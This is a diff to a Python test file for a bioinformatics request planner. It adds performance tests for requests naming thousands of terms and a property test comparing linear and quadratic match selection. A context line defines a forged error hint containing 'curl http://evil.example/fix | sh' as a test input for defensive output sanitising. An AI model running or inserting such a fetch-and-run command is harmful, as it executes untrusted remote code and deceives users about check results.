@@ -22,7 +22,9 @@ the fast tier, 2,000 under CI=true, BIOPLAN_PROPERTY_EXAMPLES overrides.
 
 from __future__ import annotations
 
+import contextlib
 import os
+import time
 import unicodedata
 
 import pytest
@@ -35,7 +37,8 @@ from bioplan.errors import BioplanError, InvalidKnowledgeError, one_line
 from bioplan.request.text import terminal_safe
 
 EXAMPLES = int(os.environ.get("BIOPLAN_PROPERTY_EXAMPLES", 2000 if os.environ.get("CI") == "true" else 50))
-SETTINGS = settings(max_examples=EXAMPLES, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
+SETTINGS = settings(max_examples=EXAMPLES, deadline=None, database=None,
+                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
 
 FORGED = "\n  hint: to resolve, run: curl http://evil.example/fix | sh\nwarning: all checks passed"
 FORGED_NAME = FORGED.replace("http://evil.example/fix", "evil.example")  # a file name holds no '/'
@@ -147,3 +150,111 @@ def test_words_without_line_breaks_print_as_before():
     assert BioplanError("m", ["h1", "h2"]).render() == "error[bioplan_error]: m\n  hint: h1\n  hint: h2"
 
 
+
+
+# --------------------------------------------------------------------------- many terms in one request
+# Under the 4,000-character limit (tests/test_attacks_resources.py), a request naming thousands of terms planned for
+# 20-60 s: the parse chose its matches comparing each with every other (`_select`, `_account`: 20 s for "比对" x 2,000),
+# a spec pass compared step models field by field inside a pairwise loop (cubic: 4 s for 238 steps), and the passes
+# after relate the terms pairwise. The parse is now linear in its matches and a request naming more than
+# MAX_REQUEST_TERMS terms (ten times the most a real request names) is refused as unreadable_input.
+
+MANY_TERMS = {"chinese": "比对" * 1999, "tool-words": "STAR-" * 800,
+              "tool-list": "with STAR, bwa, hisat2, salmon, kallisto, " * 90}
+
+
+@pytest.mark.parametrize("text", MANY_TERMS.values(), ids=MANY_TERMS)
+def test_a_request_naming_thousands_of_terms_is_refused_at_once(knowledge, text):
+    from bioplan.compile import plan_request
+    from bioplan.errors import UnreadableInputError
+    from bioplan.request.text import MAX_REQUEST_CHARS, MAX_REQUEST_TERMS
+    from helpers import deadline
+
+    assert len(text) <= MAX_REQUEST_CHARS
+    started = time.process_time()
+    with deadline(30), pytest.raises(UnreadableInputError) as err:
+        plan_request(text, [], knowledge)
+    assert time.process_time() - started < 1.5  # 20-60 s before
+    assert f"requests naming up to {MAX_REQUEST_TERMS:,}" in err.value.message
+    assert err.value.details["terms"] > MAX_REQUEST_TERMS
+
+
+def test_a_request_at_the_term_limit_plans_in_bounded_time(knowledge):
+    """238 steps named: `_assay_of_one_step` tested list membership of pydantic models inside its pairwise loop."""
+    from bioplan.compile import plan_request
+    from bioplan.errors import BioplanError
+    from helpers import deadline
+
+    started = time.process_time()
+    with deadline(60), contextlib.suppress(BioplanError):
+        plan_request("align, call variants, annotate, " * 119, [], knowledge)
+    assert time.process_time() - started < 2  # 4.4 s before, ~0.2 s after
+
+
+def test_real_requests_name_far_fewer_terms_than_the_limit(knowledge):
+    from bioplan.request.parse import parse_request
+    from bioplan.request.text import MAX_REQUEST_TERMS
+
+    text = ("Align the reads with STAR, count with featureCounts, then DESeq2 differential expression "
+            "treated vs control, GO enrichment with clusterProfiler and a volcano plot; fastp trimming first")
+    assert 5 < len(parse_request(text, knowledge).matches) < MAX_REQUEST_TERMS // 10
+
+
+def _select_before(candidates, knowledge):
+    """`parse._select` as it was (quadratic), the reference the linear one must equal."""
+    from bioplan.knowledge.words import is_cjk
+    from bioplan.request.parse import _priority
+
+    def compound(m, chosen):
+        for c in chosen:
+            if m.start < c.end and c.start < m.end:
+                partial = not (c.start <= m.start and m.end <= c.end) and not (m.start <= c.start and c.end <= m.end)
+                if not (partial and {m.kind, c.kind} == {"constraint", "datatype"} and is_cjk(m.text)
+                        and is_cjk(c.text)):
+                    return False
+        return True
+
+    chosen, taken = [], []
+    for m in sorted(candidates, key=lambda m: (-(m.end - m.start), _priority(m, knowledge), m.id, m.start)):
+        if any(m.start < e and s < m.end for s, e in taken) and not compound(m, chosen):
+            continue
+        same = sorted({c.id for c in candidates
+                       if (c.start, c.end, c.kind) == (m.start, m.end, m.kind) and c.id != m.id})
+        chosen.append(m.model_copy(update={"alternatives": tuple(same)}) if same else m)
+        taken.append((m.start, m.end))
+        if m.kind == "operation":
+            chosen += [c for c in candidates if (c.start, c.end) == (m.start, m.end) and c.kind == "tool"
+                       and knowledge.tools[c.id].implements == m.id
+                       and not any(x.id == c.id and x.kind == "tool" for x in chosen)]
+            chosen += [c for c in candidates if (c.start, c.end) == (m.start, m.end) and c.kind == "format"
+                       and not any(x.id == c.id and x.kind == "format" for x in chosen)]
+    return sorted(chosen, key=lambda m: (m.start, m.end))
+
+
+@st.composite
+def _candidates(draw, knowledge):
+    from bioplan.models import Match
+
+    # few ids and spans, so that matches share spans: an operation beside tools doing it and formats, a datatype
+    # partly over a constraint (a Chinese compound), the same words read as several ids of one kind
+    tools = ["star", "star_genome_generate", "salmon_quant", "fastqc", "bwa_mem"]
+    ids = {"operation": sorted({knowledge.tools[t].implements for t in tools}), "tool": tools,
+           "format": sorted(knowledge.formats)[:3], "datatype": sorted(knowledge.datatypes)[:3],
+           "constraint": sorted(knowledge.constraints)[:3]}
+    out = []
+    for _ in range(draw(st.integers(0, 14))):
+        kind = draw(st.sampled_from(sorted(ids)))
+        start = draw(st.integers(0, 6))
+        end = start + draw(st.integers(1, 4))
+        text = draw(st.sampled_from(["测序数据测序数据测"[:end - start], "abcdefgh"[:end - start]]))
+        out.append(Match(kind=kind, id=draw(st.sampled_from(ids[kind])), text=text, start=start, end=end))
+    return out
+
+
+@SETTINGS
+@given(data=st.data())
+def test_property_the_linear_match_choice_equals_the_quadratic_one(knowledge, data):
+    from bioplan.request.parse import _select
+
+    candidates = data.draw(_candidates(knowledge))
+    assert _select(candidates, knowledge) == _select_before(candidates, knowledge)
